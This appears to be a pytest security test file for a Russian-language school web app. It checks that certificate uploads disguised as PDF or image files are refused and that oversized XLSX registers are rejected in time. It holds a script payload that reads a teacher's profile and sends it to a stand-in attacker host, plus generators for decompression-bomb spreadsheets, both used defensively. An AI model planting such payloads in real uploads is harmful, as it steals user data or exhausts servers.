"""What follows a valid signature: a certificate must parse as what it claims to be, and a register in XLSX is read
within bounded work, refused in Russian (never a 500, never a worker's timeout) when it asks for more."""
import itertools
import os
import time

import pytest
from sqlalchemy import select

from cpp_app.models import CourseRecord
from tests.factories import text
from tests.security.uploads_common import UPLOADS, files_under, post_file, sample_image, sample_pdf, xlsx_with_sheet
from tests.security.world import database_state, switch_user

CERTIFICATE_UPLOADS = ["cabinet.course_external_new", "cabinet.course_external_edit"]
# What a browser would run if the file were ever shown as a page: read the teacher's profile, send it away.
SCRIPT = (b"<html><body><script>fetch('/cabinet/profile').then(r => r.text())"
          b".then(t => { new Image().src = 'https://evil.example/?' + encodeURIComponent(t) })</script></body></html>")


@pytest.mark.parametrize("endpoint", CERTIFICATE_UPLOADS)
@pytest.mark.parametrize(("content", "label"), [
    (b"%PDF-1.7\n" + SCRIPT, "PDF"),
    (b"%PDF-1.4\n" + SCRIPT + b"\n%%EOF\n", "PDF"),
    (b"\x89PNG\r\n\x1a\n" + SCRIPT, "PNG"),
    (b"\xff\xd8\xff\xe0" + SCRIPT, "JPG"),
])
def test_a_page_behind_a_borrowed_signature_is_refused(client, login, database, world, tmp_path, endpoint, content,
                                                       label):
    upload = UPLOADS[endpoint]
    switch_user(client, login, world.teacher_a)
    before, files = database_state(database), files_under(tmp_path)
    response = post_file(client, world, upload, content, "certificate.pdf", "application/pdf")
    assert response.status_code == 200
    assert f"Файл начинается как {label}, но не открывается" in text(response)
    assert database_state(database) == before and files_under(tmp_path) == files


@pytest.mark.parametrize(("content", "mime"), [
    (sample_pdf(), "application/pdf"),
    (sample_image("PNG"), "image/png"),
    (sample_image("JPEG"), "image/jpeg"),
])
def test_real_certificates_are_accepted(client, login, database, world, content, mime):
    upload = UPLOADS["cabinet.course_external_new"]
    switch_user(client, login, world.teacher_a)
    assert post_file(client, world, upload, content, "certificate", "application/octet-stream").status_code == 302
    record = database.session.scalars(select(CourseRecord).where(CourseRecord.user_id == world.teacher_a.id)
                                      .order_by(CourseRecord.id.desc())).first()
    assert record.certificate_mime == mime
    assert client.get(f"/cabinet/courses/{record.id}/certificate").data == content


def empty_cells(rows: int, per_row: int, noise: bytes = b"") -> bytes:
    return (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            + b"".join(itertools.repeat(b"<row>" + b"<c/>" * per_row + b"</row>", rows))
            + b"</sheetData></worksheet><!--" + noise + b"-->")


@pytest.mark.parametrize(("sheet", "message"), [
    # 40 MB of empty cells in a file of a few dozen kilobytes.
    (lambda: empty_cells(1000, 10_000), "больше 20 МБ в распакованном виде"),
    # 10 MB of them, the compression kept ordinary by random noise.
    (lambda: empty_cells(25_000, 100, os.urandom(100_000).hex().encode()), "больше 2 000 000 ячеек"),
    # One row openpyxl would build whole, out of reach of the clock.
    (lambda: empty_cells(1, 100_000), "слишком сложно"),
])
def test_a_register_that_asks_for_too_much_work_is_refused_in_time(client, login, database, world, sheet, message):
    upload = UPLOADS["school.import_staff"]
    switch_user(client, login, world.director_a)
    content = xlsx_with_sheet(sheet())
    before = database_state(database)
    started = time.monotonic()
    response = post_file(client, world, upload, content, "register.xlsx")
    assert time.monotonic() - started < 2
    assert response.status_code == 400 and message in text(response), text(response)[:3000]
    assert database_state(database) == before


def test_the_time_budget_comes_from_the_configuration(app, client, login, database, world, monkeypatch):
    monkeypatch.setitem(app.config, "TABULAR_PARSE_SECONDS", 0)
    upload = UPLOADS["school.import_staff"]
    switch_user(client, login, world.director_a)
    content, name = upload.good
    response = post_file(client, world, upload, content, name)
    assert response.status_code == 400 and "Файл разбирается дольше 0 с" in text(response)
